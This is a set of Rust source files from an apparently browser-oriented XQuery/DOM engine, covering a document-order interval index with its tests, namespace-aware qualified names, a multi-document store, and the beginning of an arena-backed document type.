        let a = doc.set_attribute(r, QName::local("a"), "1").unwrap();
        let x = doc.create_element(QName::local("x"));
        let y = doc.create_element(QName::local("y"));
        let z = doc.create_element(QName::local("z"));
        doc.append_child(r, x).unwrap();
        doc.append_child(r, y).unwrap();
        doc.append_child(y, z).unwrap();
        (
            s,
            NodeRef::new(d, r),
            NodeRef::new(d, a),
            NodeRef::new(d, x),
            NodeRef::new(d, y),
            NodeRef::new(d, z),
        )
    }

    #[test]
    fn ancestor_precedes_descendant() {
        let (s, r, _a, x, y, z) = sample();
        assert_eq!(cmp_doc_order(&s, r, x), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, y, z), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, z, y), Ordering::Greater);
    }

    #[test]
    fn attribute_after_element_before_children() {
        let (s, r, a, x, _y, _z) = sample();
        assert_eq!(cmp_doc_order(&s, r, a), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, a, x), Ordering::Less);
    }

    #[test]
    fn siblings_in_order() {
        let (s, _r, _a, x, y, _z) = sample();
        assert_eq!(cmp_doc_order(&s, x, y), Ordering::Less);
    }

    #[test]
    fn sort_dedup_normalises() {
        let (s, r, a, x, y, z) = sample();
        let mut v = vec![z, x, r, z, a, y, x];
        sort_dedup(&s, &mut v);
        assert_eq!(v, vec![r, a, x, y, z]);
    }

    #[test]
    fn cross_document_order_by_doc_id() {
        let mut s = Store::new();
        let d1 = s.new_document(None);
        let d2 = s.new_document(None);
        let r1 = s.root(d1);
        let r2 = s.root(d2);
        assert_eq!(cmp_doc_order(&s, r1, r2), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, r2, r1), Ordering::Greater);
        assert_eq!(cmp_doc_order(&s, r1, r1), Ordering::Equal);
    }
}
