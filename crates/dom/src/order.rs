//! Document order.
//!
//! XPath/XQuery path results must be returned in document order with
//! duplicates removed — the normalisation that runs after *every* axis
//! step, i.e. the hottest comparison in the whole engine ("programming the
//! browser involves mostly XML (i.e., DOM) navigation").
//!
//! Order is decided by an **interval index**: one lazy O(n) pre-order
//! traversal per [`Document`] assigns every node a `begin`/`end` label
//! (attributes slot between their owner element and its children, matching
//! the XDM rules), after which comparison, ancestry and sorting are O(1)
//! per pair with no allocation. The index is cached behind an epoch counter
//! that every structural arena mutation bumps; a stale index is rebuilt on
//! the next read (see `DESIGN.md` § "Document-order index & invalidation").
//!
//! Across documents, order follows [`crate::store::DocId`]; across detached
//! trees of one document, the root's [`NodeId`] (both stable,
//! implementation-defined orders, as the spec allows).

use std::cmp::Ordering;

use crate::arena::Document;
use crate::node::NodeId;
use crate::store::{NodeRef, Store};

/// Engine-wide counters for the order index and path normalisation, so the
/// wins (and rebuild storms) are observable from the app-server metrics.
pub mod stats {
    use std::sync::atomic::{AtomicU64, Ordering::Relaxed};

    static REBUILDS: AtomicU64 = AtomicU64::new(0);
    static SORTS_PERFORMED: AtomicU64 = AtomicU64::new(0);
    static SORTS_ELIDED: AtomicU64 = AtomicU64::new(0);

    /// Point-in-time snapshot of the engine counters.
    #[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
    pub struct EngineStats {
        /// Lazy order-index rebuilds (one O(n) traversal each).
        pub order_index_rebuilds: u64,
        /// `sort_dedup` calls that actually sorted (length > 1).
        pub sorts_performed: u64,
        /// Axis steps whose normalisation was proven unnecessary.
        pub sorts_elided: u64,
    }

    pub fn record_rebuild() {
        REBUILDS.fetch_add(1, Relaxed);
    }
    pub fn record_sort() {
        SORTS_PERFORMED.fetch_add(1, Relaxed);
    }
    pub fn record_elided_sort() {
        SORTS_ELIDED.fetch_add(1, Relaxed);
    }

    pub fn snapshot() -> EngineStats {
        EngineStats {
            order_index_rebuilds: REBUILDS.load(Relaxed),
            sorts_performed: SORTS_PERFORMED.load(Relaxed),
            sorts_elided: SORTS_ELIDED.load(Relaxed),
        }
    }

    pub fn reset() {
        REBUILDS.store(0, Relaxed);
        SORTS_PERFORMED.store(0, Relaxed);
        SORTS_ELIDED.store(0, Relaxed);
    }
}

// ---------------------------------------------------------------------------
// the interval index
// ---------------------------------------------------------------------------

/// Begin/end interval labels over a document's forest, built in one
/// pre-order traversal. For every node `v`:
///
/// * `begin[v]` is its pre-order position (elements first, then their
///   attributes, then children — the XDM document order);
/// * `end[v]` is the largest `begin` in `v`'s subtree, so
///   `begin[a] <= begin[d] && begin[d] <= end[a]` ⇔ `a` is an ancestor-or-
///   self of `d` (attributes count as inside their owner's interval);
/// * `root[v]` is the root of the tree containing `v` (detached subtrees
///   are separate trees, ordered by their root's `NodeId`);
/// * `order[begin[v]] == v`, i.e. `order` is the full pre-order sequence,
///   which makes `following`/`preceding` slice queries instead of walks.
#[derive(Debug, Clone, Default)]
pub struct OrderIndex {
    built_for_epoch: Option<u64>,
    begin: Vec<u32>,
    end: Vec<u32>,
    root: Vec<u32>,
    order: Vec<NodeId>,
}

impl OrderIndex {
    pub(crate) fn is_fresh(&self, epoch: u64) -> bool {
        self.built_for_epoch == Some(epoch)
    }

    /// One O(n) pass over the arena: label every tree in the forest, in
    /// root-`NodeId` order. Allocation-free once the vectors are warm.
    pub(crate) fn rebuild(&mut self, doc: &Document, epoch: u64) {
        let n = doc.len();
        self.begin.clear();
        self.begin.resize(n, 0);
        self.end.clear();
        self.end.resize(n, 0);
        self.root.clear();
        self.root.resize(n, 0);
        self.order.clear();
        self.order.reserve(n);

        // Iterative traversal: deep pages must not overflow the stack.
        enum Frame {
            Enter(NodeId),
            Exit(NodeId),
        }
        let mut stack: Vec<Frame> = Vec::new();
        for slot in 0..n {
            let id = NodeId(slot as u32);
            if doc.parent(id).is_some() {
                continue; // not a tree root
            }
            stack.push(Frame::Enter(id));
            while let Some(frame) = stack.pop() {
                match frame {
                    Frame::Enter(v) => {
                        self.begin[v.index()] = self.order.len() as u32;
                        self.root[v.index()] = id.0;
                        self.order.push(v);
                        for &a in doc.attributes(v) {
                            let pos = self.order.len() as u32;
                            self.begin[a.index()] = pos;
                            self.end[a.index()] = pos;
                            self.root[a.index()] = id.0;
                            self.order.push(a);
                        }
                        stack.push(Frame::Exit(v));
                        for &c in doc.children(v).iter().rev() {
                            stack.push(Frame::Enter(c));
                        }
                    }
                    Frame::Exit(v) => {
                        self.end[v.index()] = (self.order.len() - 1) as u32;
                    }
                }
            }
        }
        debug_assert_eq!(self.order.len(), n);
        self.built_for_epoch = Some(epoch);
    }

    /// Pre-order position of `v` within its document's forest.
    #[inline]
    pub fn begin(&self, v: NodeId) -> u32 {
        self.begin[v.index()]
    }

    /// Largest pre-order position inside `v`'s subtree.
    #[inline]
    pub fn end(&self, v: NodeId) -> u32 {
        self.end[v.index()]
    }

    /// Root of the tree containing `v` (the document node for attached
    /// nodes; the subtree root for detached ones).
    #[inline]
    pub fn tree_root(&self, v: NodeId) -> NodeId {
        NodeId(self.root[v.index()])
    }

    /// O(1) same-document comparison in document order.
    #[inline]
    pub fn cmp(&self, a: NodeId, b: NodeId) -> Ordering {
        if a == b {
            return Ordering::Equal;
        }
        (self.root[a.index()], self.begin[a.index()])
            .cmp(&(self.root[b.index()], self.begin[b.index()]))
    }

    /// O(1) strict-ancestor test (attributes count as descendants of their
    /// owner element).
    #[inline]
    pub fn is_ancestor_of(&self, ancestor: NodeId, node: NodeId) -> bool {
        ancestor != node
            && self.root[ancestor.index()] == self.root[node.index()]
            && self.begin[ancestor.index()] <= self.begin[node.index()]
            && self.begin[node.index()] <= self.end[ancestor.index()]
    }

    /// The full pre-order node sequence (`order[begin(v)] == v`); slices of
    /// it answer `following`/`preceding`/subtree queries directly.
    #[inline]
    pub fn pre_order(&self) -> &[NodeId] {
        &self.order
    }
}

// ---------------------------------------------------------------------------
// public comparison API (indexed)
// ---------------------------------------------------------------------------

/// Compares two nodes of the *same* document in document order. O(1) with a
/// valid index; a stale index is rebuilt first (one O(n) traversal).
pub fn cmp_doc_order_local(doc: &Document, a: NodeId, b: NodeId) -> Ordering {
    if a == b {
        return Ordering::Equal;
    }
    doc.order_index().cmp(a, b)
}

/// Compares two [`NodeRef`]s in global document order.
pub fn cmp_doc_order(store: &Store, a: NodeRef, b: NodeRef) -> Ordering {
    match a.doc.cmp(&b.doc) {
        Ordering::Equal => cmp_doc_order_local(store.doc(a.doc), a.node, b.node),
        o => o,
    }
}

/// Sorts a node sequence into document order and removes duplicates, the
/// normalisation required after every path step. Allocation-free on the
/// warm path: O(1) label comparisons and an in-place unstable sort.
pub fn sort_dedup(store: &Store, nodes: &mut Vec<NodeRef>) {
    if nodes.len() <= 1 {
        return;
    }
    stats::record_sort();
    let first_doc = nodes[0].doc;
    if nodes.iter().all(|n| n.doc == first_doc) {
        // Single-document fast path: borrow the index once for the whole
        // sort instead of once per comparison.
        let ix = store.doc(first_doc).order_index();
        nodes.sort_unstable_by(|a, b| ix.cmp(a.node, b.node));
    } else {
        nodes.sort_unstable_by(|&a, &b| cmp_doc_order(store, a, b));
    }
    nodes.dedup();
}

/// True if `nodes` is already strictly document-ordered **and** no node's
/// subtree contains a later node. Under that condition the concatenated
/// results of a `child`/`attribute`/`self`/`descendant(-or-self)` step are
/// themselves sorted and duplicate-free, so the evaluator can elide the
/// per-step `sort_dedup` (see `eval/path.rs`). O(n) with O(1) label checks.
pub fn strictly_ordered_disjoint<I>(store: &Store, nodes: I) -> bool
where
    I: IntoIterator<Item = NodeRef>,
{
    let mut prev: Option<NodeRef> = None;
    for n in nodes {
        if let Some(p) = prev {
            if p.doc > n.doc {
                return false;
            }
            if p.doc == n.doc {
                let ix = store.doc(p.doc).order_index();
                let (rp, rn) = (ix.tree_root(p.node), ix.tree_root(n.node));
                if rp > rn {
                    return false;
                }
                // Same tree: require strict order and non-containment.
                if rp == rn && ix.end(p.node) >= ix.begin(n.node) {
                    return false;
                }
            }
        }
        prev = Some(n);
    }
    true
}

// ---------------------------------------------------------------------------
// naive reference implementation (the pre-index algorithm, kept as oracle)
// ---------------------------------------------------------------------------

/// One step of a naive order key. Attributes of an element come before its
/// children, hence the two-level encoding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Step {
    /// `Attr(i)` = i-th attribute, `Child(i)` = i-th child of the parent
    /// identified by the previous step.
    Attr(u32),
    Child(u32),
}

/// Computes the order key of a node: the sequence of steps from the tree
/// root down to the node. O(depth · fanout) with a heap allocation — the
/// seed algorithm, retained only as the property-test oracle for the index.
fn order_key(doc: &Document, node: NodeId) -> Vec<Step> {
    let mut rev = Vec::new();
    let mut cur = node;
    while let Some(parent) = doc.parent(cur) {
        if doc.kind(cur).is_attribute() {
            let idx = doc
                .attributes(parent)
                .iter()
                .position(|&a| a == cur)
                .unwrap_or(0) as u32;
            rev.push(Step::Attr(idx));
        } else {
            let idx = doc.child_index(parent, cur).unwrap_or(0) as u32;
            rev.push(Step::Child(idx));
        }
        cur = parent;
    }
    rev.reverse();
    rev
}

/// Reference comparison without the index: tree roots first (detached trees
/// order by their root `NodeId`, exactly as the index does), then the
/// child-index paths. Used by property tests to cross-check the index after
/// arbitrary mutation sequences; not called on any hot path.
pub fn cmp_doc_order_local_naive(doc: &Document, a: NodeId, b: NodeId) -> Ordering {
    if a == b {
        return Ordering::Equal;
    }
    match doc.tree_root(a).cmp(&doc.tree_root(b)) {
        Ordering::Equal => {}
        o => return o,
    }
    let ka = order_key(doc, a);
    let kb = order_key(doc, b);
    // An ancestor precedes its descendants: shorter prefix wins.
    match ka.cmp(&kb) {
        Ordering::Equal => a.cmp(&b),
        o => o,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::QName;

    fn sample() -> (Store, NodeRef, NodeRef, NodeRef, NodeRef, NodeRef) {
        // <r a="1"><x/><y><z/></y></r>
        let mut s = Store::new();
        let d = s.new_document(None);
        let doc = s.doc_mut(d);
        let r = doc.create_element(QName::local("r"));
        doc.append_child(doc.root(), r).unwrap();
        let a = doc.set_attribute(r, QName::local("a"), "1").unwrap();
        let x = doc.create_element(QName::local("x"));
        let y = doc.create_element(QName::local("y"));
        let z = doc.create_element(QName::local("z"));
        doc.append_child(r, x).unwrap();
        doc.append_child(r, y).unwrap();
        doc.append_child(y, z).unwrap();
        (
            s,
            NodeRef::new(d, r),
            NodeRef::new(d, a),
            NodeRef::new(d, x),
            NodeRef::new(d, y),
            NodeRef::new(d, z),
        )
    }

    #[test]
    fn ancestor_precedes_descendant() {
        let (s, r, _a, x, y, z) = sample();
        assert_eq!(cmp_doc_order(&s, r, x), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, y, z), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, z, y), Ordering::Greater);
    }

    #[test]
    fn attribute_after_element_before_children() {
        let (s, r, a, x, _y, _z) = sample();
        assert_eq!(cmp_doc_order(&s, r, a), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, a, x), Ordering::Less);
    }

    #[test]
    fn siblings_in_order() {
        let (s, _r, _a, x, y, _z) = sample();
        assert_eq!(cmp_doc_order(&s, x, y), Ordering::Less);
    }

    #[test]
    fn sort_dedup_normalises() {
        let (s, r, a, x, y, z) = sample();
        let mut v = vec![z, x, r, z, a, y, x];
        sort_dedup(&s, &mut v);
        assert_eq!(v, vec![r, a, x, y, z]);
    }

    #[test]
    fn cross_document_order_by_doc_id() {
        let mut s = Store::new();
        let d1 = s.new_document(None);
        let d2 = s.new_document(None);
        let r1 = s.root(d1);
        let r2 = s.root(d2);
        assert_eq!(cmp_doc_order(&s, r1, r2), Ordering::Less);
        assert_eq!(cmp_doc_order(&s, r2, r1), Ordering::Greater);
        assert_eq!(cmp_doc_order(&s, r1, r1), Ordering::Equal);
    }

    #[test]
    fn indexed_agrees_with_naive_on_sample() {
        let (s, r, a, x, y, z) = sample();
        let doc = s.doc(r.doc);
        let nodes = [doc.root(), r.node, a.node, x.node, y.node, z.node];
        for &p in &nodes {
            for &q in &nodes {
                assert_eq!(
                    cmp_doc_order_local(doc, p, q),
                    cmp_doc_order_local_naive(doc, p, q),
                    "disagreement on ({p:?}, {q:?})"
                );
            }
        }
    }

    #[test]
    fn detached_trees_order_by_root_id() {
        let mut s = Store::new();
        let d = s.new_document(None);
        let doc = s.doc_mut(d);
        let r = doc.create_element(QName::local("r"));
        doc.append_child(doc.root(), r).unwrap();
        let early = doc.create_element(QName::local("early"));
        let late = doc.create_element(QName::local("late"));
        let leaf = doc.create_element(QName::local("leaf"));
        doc.append_child(late, leaf).unwrap();
        // Attached tree (root NodeId(0)) precedes both detached trees.
        assert_eq!(cmp_doc_order_local(doc, r, early), Ordering::Less);
        assert_eq!(cmp_doc_order_local(doc, early, late), Ordering::Less);
        assert_eq!(cmp_doc_order_local(doc, late, leaf), Ordering::Less);
        assert_eq!(cmp_doc_order_local(doc, early, leaf), Ordering::Less);
        assert_eq!(
            cmp_doc_order_local(doc, leaf, early),
            cmp_doc_order_local_naive(doc, leaf, early)
        );
    }

    #[test]
    fn interval_ancestry() {
        let (s, r, a, x, y, z) = sample();
        let doc = s.doc(r.doc);
        let ix = doc.order_index();
        assert!(ix.is_ancestor_of(r.node, z.node));
        assert!(ix.is_ancestor_of(y.node, z.node));
        assert!(ix.is_ancestor_of(r.node, a.node), "attribute inside owner");
        assert!(!ix.is_ancestor_of(x.node, z.node));
        assert!(!ix.is_ancestor_of(z.node, r.node));
        assert!(!ix.is_ancestor_of(r.node, r.node), "strict");
    }

    #[test]
    fn strictly_ordered_disjoint_detects_nesting() {
        let (s, r, a, x, y, z) = sample();
        assert!(strictly_ordered_disjoint(&s, [x, y].into_iter()));
        assert!(strictly_ordered_disjoint(&s, [a, x, z].into_iter()));
        // nested pair: y contains z
        assert!(!strictly_ordered_disjoint(&s, [y, z].into_iter()));
        // out of order
        assert!(!strictly_ordered_disjoint(&s, [y, x].into_iter()));
        // duplicate
        assert!(!strictly_ordered_disjoint(&s, [x, x].into_iter()));
        assert!(strictly_ordered_disjoint(&s, [r].into_iter()));
        assert!(strictly_ordered_disjoint(&s, [].into_iter()));
    }
}
