//! Qualified names.
//!
//! XQuery and the DOM are both namespace-aware; a [`QName`] carries an
//! optional prefix (lexical information), a local part and an optional
//! namespace URI. Equality and hashing ignore the prefix, as required by the
//! XQuery Data Model: `html:div` and `h:div` bound to the same URI are the
//! same expanded name.

use std::fmt;
use std::hash::{Hash, Hasher};
use std::rc::Rc;

/// The `browser:` namespace the paper introduces for its browser extensions
/// (§4.2: "one additional namespace … bound to the prefix `browser`").
pub const BROWSER_NS: &str = "http://www.example.com/browser";
/// The standard XQuery functions-and-operators namespace.
pub const FN_NS: &str = "http://www.w3.org/2005/xpath-functions";
/// The `xs:` XML Schema namespace (used for atomic type names only).
pub const XS_NS: &str = "http://www.w3.org/2001/XMLSchema";
/// The `local:` namespace for user functions declared in a main module.
pub const LOCAL_NS: &str = "http://www.w3.org/2005/xquery-local-functions";
/// The reserved `xml:` namespace.
pub const XML_NS: &str = "http://www.w3.org/XML/1998/namespace";

/// An expanded qualified name (prefix, local part, namespace URI).
#[derive(Debug, Clone)]
pub struct QName {
    pub prefix: Option<Rc<str>>,
    pub local: Rc<str>,
    pub ns: Option<Rc<str>>,
}

impl QName {
    /// A name with no namespace and no prefix.
    pub fn local(local: impl AsRef<str>) -> Self {
        QName {
            prefix: None,
            local: Rc::from(local.as_ref()),
            ns: None,
        }
    }

    /// A name in a namespace, without remembering a prefix.
    pub fn ns(ns: impl AsRef<str>, local: impl AsRef<str>) -> Self {
        QName {
            prefix: None,
            local: Rc::from(local.as_ref()),
            ns: Some(Rc::from(ns.as_ref())),
        }
    }

    /// A fully specified name.
    pub fn full(prefix: Option<&str>, ns: Option<&str>, local: impl AsRef<str>) -> Self {
        QName {
            prefix: prefix.map(Rc::from),
            local: Rc::from(local.as_ref()),
            ns: ns.map(Rc::from),
        }
    }

    /// The namespace URI, or `""` when the name is in no namespace.
    pub fn ns_or_empty(&self) -> &str {
        self.ns.as_deref().unwrap_or("")
    }

    /// Lexical form: `prefix:local` or `local`.
    pub fn lexical(&self) -> String {
        match &self.prefix {
            Some(p) if !p.is_empty() => format!("{p}:{}", self.local),
            _ => self.local.to_string(),
        }
    }

    /// Expanded-name equality test against `(ns, local)`.
    pub fn matches(&self, ns: Option<&str>, local: &str) -> bool {
        self.ns.as_deref() == ns && &*self.local == local
    }
}

impl PartialEq for QName {
    fn eq(&self, other: &Self) -> bool {
        self.local == other.local && self.ns == other.ns
    }
}
impl Eq for QName {}

impl Hash for QName {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.local.hash(state);
        self.ns.hash(state);
    }
}

impl fmt::Display for QName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.lexical())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn equality_ignores_prefix() {
        let a = QName::full(Some("h"), Some("urn:html"), "div");
        let b = QName::full(Some("html"), Some("urn:html"), "div");
        assert_eq!(a, b);
        let mut set = HashSet::new();
        set.insert(a);
        assert!(set.contains(&b));
    }

    #[test]
    fn equality_distinguishes_namespace() {
        let a = QName::ns("urn:a", "div");
        let b = QName::ns("urn:b", "div");
        let c = QName::local("div");
        assert_ne!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn lexical_form() {
        assert_eq!(QName::local("p").lexical(), "p");
        assert_eq!(
            QName::full(Some("browser"), Some(BROWSER_NS), "alert").lexical(),
            "browser:alert"
        );
    }

    #[test]
    fn matches_expanded_name() {
        let q = QName::ns(BROWSER_NS, "self");
        assert!(q.matches(Some(BROWSER_NS), "self"));
        assert!(!q.matches(None, "self"));
        assert!(!q.matches(Some(BROWSER_NS), "top"));
    }
}
