//! Multi-document store and global node references.
//!
//! The paper's plug-in exposes many documents to one query: the page itself,
//! documents of other frames, XML fetched over REST, cached documents
//! (Elsevier scenario, §6.1). The [`Store`] owns all of them; a [`NodeRef`]
//! names a node globally as `(DocId, NodeId)`.

use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;

use crate::arena::Document;
use crate::error::{DomError, DomResult};
use crate::node::NodeId;

/// Identifier of a document inside a [`Store`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct DocId(pub u32);

/// A node reference that is unique across the whole store.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct NodeRef {
    pub doc: DocId,
    pub node: NodeId,
}

impl NodeRef {
    pub fn new(doc: DocId, node: NodeId) -> Self {
        NodeRef { doc, node }
    }
}

/// Owns every document visible to an engine instance.
#[derive(Debug, Default, Clone)]
pub struct Store {
    docs: Vec<Document>,
    by_uri: HashMap<String, DocId>,
}

impl Store {
    pub fn new() -> Self {
        Store::default()
    }

    /// Adds a document, optionally registering it under a URI for `fn:doc`.
    pub fn add_document(&mut self, mut doc: Document, uri: Option<&str>) -> DocId {
        let id = DocId(self.docs.len() as u32);
        if let Some(u) = uri {
            doc.base_uri = Some(u.to_string());
            self.by_uri.insert(u.to_string(), id);
        }
        self.docs.push(doc);
        id
    }

    /// Creates and registers an empty document.
    pub fn new_document(&mut self, uri: Option<&str>) -> DocId {
        self.add_document(Document::new(), uri)
    }

    pub fn doc(&self, id: DocId) -> &Document {
        &self.docs[id.0 as usize]
    }

    pub fn doc_mut(&mut self, id: DocId) -> &mut Document {
        &mut self.docs[id.0 as usize]
    }

    pub fn try_doc(&self, id: DocId) -> DomResult<&Document> {
        self.docs
            .get(id.0 as usize)
            .ok_or_else(|| DomError::UnknownDocument(format!("{id:?}")))
    }

    /// Looks up a registered document by URI.
    pub fn doc_by_uri(&self, uri: &str) -> Option<DocId> {
        self.by_uri.get(uri).copied()
    }

    /// Registers (or re-registers) a URI for an existing document.
    pub fn register_uri(&mut self, uri: &str, id: DocId) {
        self.by_uri.insert(uri.to_string(), id);
        self.docs[id.0 as usize].base_uri = Some(uri.to_string());
    }

    /// Removes the URI binding (the document itself stays alive).
    pub fn unregister_uri(&mut self, uri: &str) -> Option<DocId> {
        self.by_uri.remove(uri)
    }

    /// Replaces the document stored under `id` in place, keeping the `DocId`
    /// (and any URI binding) stable. The old arena is dropped — outstanding
    /// `NodeRef`s into it become dangling and must not be dereferenced,
    /// which is why reloads happen between query evaluations only.
    pub fn replace_document(&mut self, id: DocId, mut doc: Document) {
        doc.base_uri = self.docs[id.0 as usize].base_uri.clone();
        self.docs[id.0 as usize] = doc;
    }

    /// Every `uri → document` binding, sorted by URI (a stable order for
    /// snapshots and dumps).
    pub fn uri_bindings(&self) -> Vec<(String, DocId)> {
        let mut all: Vec<(String, DocId)> =
            self.by_uri.iter().map(|(u, &id)| (u.clone(), id)).collect();
        all.sort();
        all
    }

    pub fn doc_count(&self) -> usize {
        self.docs.len()
    }

    /// Root node reference of a document.
    pub fn root(&self, id: DocId) -> NodeRef {
        NodeRef::new(id, self.doc(id).root())
    }

    /// XDM string value of a node reference.
    pub fn string_value(&self, n: NodeRef) -> String {
        self.doc(n.doc).string_value(n.node)
    }

    /// Parent as a `NodeRef`.
    pub fn parent(&self, n: NodeRef) -> Option<NodeRef> {
        self.doc(n.doc)
            .parent(n.node)
            .map(|p| NodeRef::new(n.doc, p))
    }

    /// Children as `NodeRef`s.
    pub fn children(&self, n: NodeRef) -> Vec<NodeRef> {
        self.doc(n.doc)
            .children(n.node)
            .iter()
            .map(|&c| NodeRef::new(n.doc, c))
            .collect()
    }

    /// Attributes as `NodeRef`s.
    pub fn attributes(&self, n: NodeRef) -> Vec<NodeRef> {
        self.doc(n.doc)
            .attributes(n.node)
            .iter()
            .map(|&a| NodeRef::new(n.doc, a))
            .collect()
    }

    /// Deep-copies `src` into document `dst` (possibly the same document),
    /// returning the new subtree root. Uses a split borrow so cross-document
    /// copies never clone whole documents.
    pub fn copy_node_between(&mut self, src: NodeRef, dst: DocId) -> NodeId {
        if src.doc == dst {
            return self.doc_mut(dst).deep_copy(src.node);
        }
        let si = src.doc.0 as usize;
        let di = dst.0 as usize;
        if si < di {
            let (left, right) = self.docs.split_at_mut(di);
            right[0].deep_copy_from(&left[si], src.node)
        } else {
            let (left, right) = self.docs.split_at_mut(si);
            left[di].deep_copy_from(&right[0], src.node)
        }
    }
}

/// The store handle shared between the engine, the browser substrate, the
/// plug-in and the JavaScript baseline — they all see the *same* DOM, which
/// is precisely the co-existence claim of §6.2 ("the Web page serves like a
/// database and both JavaScript and XQuery code can be used in order to
/// access and update that database").
pub type SharedStore = Rc<RefCell<Store>>;

/// Creates a fresh shared store.
pub fn shared_store() -> SharedStore {
    Rc::new(RefCell::new(Store::new()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::QName;

    #[test]
    fn uri_registration_and_lookup() {
        let mut s = Store::new();
        let d = s.new_document(Some("http://x/lib.xml"));
        assert_eq!(s.doc_by_uri("http://x/lib.xml"), Some(d));
        assert_eq!(s.doc_by_uri("http://x/other.xml"), None);
        s.unregister_uri("http://x/lib.xml");
        assert_eq!(s.doc_by_uri("http://x/lib.xml"), None);
        assert_eq!(s.doc_count(), 1, "document survives unregistration");
    }

    #[test]
    fn node_refs_navigate() {
        let mut s = Store::new();
        let d = s.new_document(None);
        let (root, e) = {
            let doc = s.doc_mut(d);
            let e = doc.create_element(QName::local("r"));
            doc.append_child(doc.root(), e).unwrap();
            let t = doc.create_text("hi");
            doc.append_child(e, t).unwrap();
            (doc.root(), e)
        };
        let root_ref = NodeRef::new(d, root);
        let kids = s.children(root_ref);
        assert_eq!(kids.len(), 1);
        assert_eq!(kids[0].node, e);
        assert_eq!(s.string_value(kids[0]), "hi");
        assert_eq!(s.parent(kids[0]), Some(root_ref));
        assert_eq!(s.parent(root_ref), None);
    }

    #[test]
    fn identity_is_per_document() {
        let mut s = Store::new();
        let d1 = s.new_document(None);
        let d2 = s.new_document(None);
        let r1 = s.root(d1);
        let r2 = s.root(d2);
        assert_ne!(r1, r2);
        assert_eq!(r1.node, r2.node, "both are NodeId(0) locally");
    }
}
