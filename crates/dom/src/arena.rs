//! Arena-based document: node storage plus the mutation API used by the
//! XQuery Update Facility and by the browser substrate.
//!
//! All structural operations are checked: the arena refuses mutations that
//! would create cycles, attach attributes as children, or give a node two
//! parents. Deleted nodes are *detached*, never freed — outstanding
//! references remain valid but unreachable from the root, mirroring how the
//! paper treats references to windows/documents that security policy has
//! since made useless (§4.2.1).

use std::cell::{Ref, RefCell};

use crate::error::{DomError, DomResult};
use crate::name::QName;
use crate::node::{NodeData, NodeId, NodeKind};
use crate::order::OrderIndex;

/// Tag bit marking an attribute step in a stable node path; the remaining
/// bits index the owner element's attribute list. See [`Document::node_path`].
pub const PATH_ATTR_BIT: u32 = 0x8000_0000;

/// A single XML document (or document fragment host) backed by an arena.
#[derive(Debug, Clone)]
pub struct Document {
    nodes: Vec<NodeData>,
    /// Base URI of the document (`fn:doc` key, page URL, …).
    pub base_uri: Option<String>,
    /// Bumped by every structural mutation; the order index compares it to
    /// the epoch it was built for to detect staleness.
    epoch: u64,
    /// Lazily (re)built document-order interval index; see [`OrderIndex`].
    order_index: RefCell<OrderIndex>,
}

impl Default for Document {
    fn default() -> Self {
        Self::new()
    }
}

impl Document {
    /// Creates an empty document whose root node is `NodeId(0)`.
    pub fn new() -> Self {
        Document {
            nodes: vec![NodeData {
                parent: None,
                kind: NodeKind::Document {
                    children: Vec::new(),
                },
            }],
            base_uri: None,
            epoch: 0,
            order_index: RefCell::new(OrderIndex::default()),
        }
    }

    /// Marks the document structure as changed, invalidating the order
    /// index. Every mutating arena method that affects node identity,
    /// parentage or sibling order must call this.
    #[inline]
    fn touch(&mut self) {
        self.epoch += 1;
    }

    /// Current mutation epoch (monotonically increasing).
    #[inline]
    pub fn epoch(&self) -> u64 {
        self.epoch
    }

    /// The document-order index, rebuilt first if any mutation happened
    /// since it was last built. The returned borrow must be dropped before
    /// the next structural mutation (mutations take `&mut self`, so the
    /// borrow checker enforces this).
    pub fn order_index(&self) -> Ref<'_, OrderIndex> {
        {
            let ix = self.order_index.borrow();
            if ix.is_fresh(self.epoch) {
                return ix;
            }
        }
        {
            let mut ix = self.order_index.borrow_mut();
            ix.rebuild(self, self.epoch);
            crate::order::stats::record_rebuild();
        }
        self.order_index.borrow()
    }

    /// The document node.
    #[inline]
    pub fn root(&self) -> NodeId {
        NodeId(0)
    }

    /// Number of slots in the arena (including detached tombstones).
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.nodes.len() <= 1
    }

    #[inline]
    pub fn data(&self, id: NodeId) -> &NodeData {
        &self.nodes[id.index()]
    }

    #[inline]
    pub fn kind(&self, id: NodeId) -> &NodeKind {
        &self.nodes[id.index()].kind
    }

    #[inline]
    pub fn parent(&self, id: NodeId) -> Option<NodeId> {
        self.nodes[id.index()].parent
    }

    fn alloc(&mut self, kind: NodeKind) -> NodeId {
        self.touch(); // a new node is a new (detached) tree root
        let id = NodeId(self.nodes.len() as u32);
        self.nodes.push(NodeData { parent: None, kind });
        id
    }

    // ----- constructors ---------------------------------------------------

    pub fn create_element(&mut self, name: QName) -> NodeId {
        self.alloc(NodeKind::Element {
            name,
            attrs: Vec::new(),
            children: Vec::new(),
            ns_decls: Vec::new(),
        })
    }

    pub fn create_text(&mut self, value: impl Into<String>) -> NodeId {
        self.alloc(NodeKind::Text {
            value: value.into(),
        })
    }

    pub fn create_comment(&mut self, value: impl Into<String>) -> NodeId {
        self.alloc(NodeKind::Comment {
            value: value.into(),
        })
    }

    pub fn create_pi(&mut self, target: impl Into<String>, value: impl Into<String>) -> NodeId {
        self.alloc(NodeKind::ProcessingInstruction {
            target: target.into(),
            value: value.into(),
        })
    }

    pub fn create_attribute(&mut self, name: QName, value: impl Into<String>) -> NodeId {
        self.alloc(NodeKind::Attribute {
